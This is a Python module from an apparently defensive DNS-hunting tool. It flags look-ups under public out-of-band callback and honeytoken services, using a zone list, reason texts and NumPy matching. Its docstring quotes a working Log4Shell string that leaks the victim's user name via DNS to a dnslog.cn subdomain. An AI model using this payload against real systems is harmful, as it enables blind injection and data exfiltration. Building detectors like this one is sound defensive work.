"""Look-ups under public out-of-band interaction (OAST) services: interactsh, Burp Collaborator,
DNSLog, CEYE, AcuMonitor; and under the public honeytoken service, Thinkst Canarytokens.

Why a rule of its own: these services hand every name queried under a subdomain to whoever holds
that subdomain. That is how blind injection is proven and exploited (a Log4Shell string such as
``${jndi:ldap://${env:USER}.abc123.dnslog.cn/a}`` makes the victim resolve
``root.abc123.dnslog.cn``), and a ready-made DNS exfiltration channel that needs no server of the
attacker's own. Scored by shape, ``root.abc123.dnslog.cn`` reads as an ordinary name: its labels
are short and word-like. A single look-up is enough here, so the name becomes a ``tunnel`` with a
reason that names the service, whatever its shape or its batch. A company's own penetration tests
use the same services; the reason says what it is, and the hunter knows whether a test was running.

Canarytokens works the same way in the other direction: a defender plants a token (a host name in a
config file, a document, a folder's ``desktop.ini``) and the look-up of ``<token>.canarytokens.com``
is the tripwire. Some tokens put the reader's user and host name in front of the token, so it is
DNS exfiltration to a third party too. Either way a single look-up matters: something on the host
read bait that nothing legitimate reads. Its reason says that, not "blind injection".
"""

from __future__ import annotations

import functools

import numpy as np

from hunt_assets.analytics.dns.names import ParsedNames, hash_name, isin_sorted

# the public servers' zones (interactsh's default list, PortSwigger's public Collaborator, and the
# DNS-log services Chinese-language exploit kits default to); a self-hosted server is a domain like
# any other and is judged by the tunnel rules
ZONES = {
    "oast.pro": "interactsh",
    "oast.live": "interactsh",
    "oast.site": "interactsh",
    "oast.online": "interactsh",
    "oast.fun": "interactsh",
    "oast.me": "interactsh",
    "interact.sh": "interactsh",
    "burpcollaborator.net": "Burp Collaborator",
    "oastify.com": "Burp Collaborator",
    "dnslog.cn": "DNSLog",
    "ceye.io": "CEYE",
    "bxss.me": "Acunetix AcuMonitor",
    "canarytokens.com": "Thinkst Canarytokens",
    "canarytokens.net": "Thinkst Canarytokens",
}
# services whose callbacks are tripwires planted by defenders, not attackers' probes
HONEYTOKEN_SERVICES = frozenset({"Thinkst Canarytokens"})
SERVICES = tuple(sorted(set(ZONES.values())))


def service_of(registered_domain: object) -> str | None:
    """The service whose public zone this registered domain is (``canarytokens.com`` -> Thinkst
    Canarytokens), else None: a tunnel verdict there is about the host that resolved the name."""
    return ZONES.get(str(registered_domain).strip().lower())
# the services' own web front ends: a hunter's or tester's browser, not a callback
FRONT_LABELS = ("www", "api", "app")
REASON = (
    "out-of-band interaction service ({service}): every name looked up under it is handed to whoever "
    "holds the subdomain (blind-injection callbacks such as Log4Shell or SSRF, or DNS exfiltration)"
)
HONEYTOKEN_REASON = (
    "honeytoken service ({service}): a canary token fired -- something on this host read a planted "
    "token (a host name in a file, a document or a folder) and resolved it; any user or host name in "
    "front of the token went to the service"
)
# one reason text per entry of SERVICES
REASONS = tuple(
    (HONEYTOKEN_REASON if s in HONEYTOKEN_SERVICES else REASON).format(service=s) for s in SERVICES
)


@functools.lru_cache(maxsize=1)
def _tables() -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Sorted zone hashes, the service index of each, and the sorted hashes of the front ends'
    whole names (``www.dnslog.cn`` ...)."""
    hashes = np.array([hash_name(z) for z in ZONES], dtype=np.uint64)
    service = np.array([SERVICES.index(s) for s in ZONES.values()], dtype=np.int8)
    order = np.argsort(hashes)
    fronts = np.sort(np.array([hash_name(f"{f}.{z}") for z in ZONES for f in FRONT_LABELS], dtype=np.uint64))
    return hashes[order], service[order], fronts


def oast_services(p: ParsedNames, reg_hash: np.ndarray) -> np.ndarray:
    """Per row: an index into ``SERVICES``, or -1.

    ``reg_hash``: each row's registered-domain hash (as the scorer computes it). A row counts when
    its registered domain is one of ``ZONES`` and it has a subdomain, unless the whole name is one
    of the services' front ends (``www.dnslog.cn``). Whole-batch NumPy.
    """
    out = np.full(p.n, -1, dtype=np.int8)
    if p.n == 0:
        return out
    zones, service, fronts = _tables()
    pos = np.clip(np.searchsorted(zones, reg_hash), 0, zones.size - 1)
    hit = (zones[pos] == reg_hash) & (p.reg_label > p.row_first_label)
    rows = np.flatnonzero(hit)
    if rows.size == 0:
        return out
    keep = rows[~isin_sorted(p.suffix_hash[p.row_first_label[rows]], fronts)]
    out[keep] = service[pos[keep]]
    return out
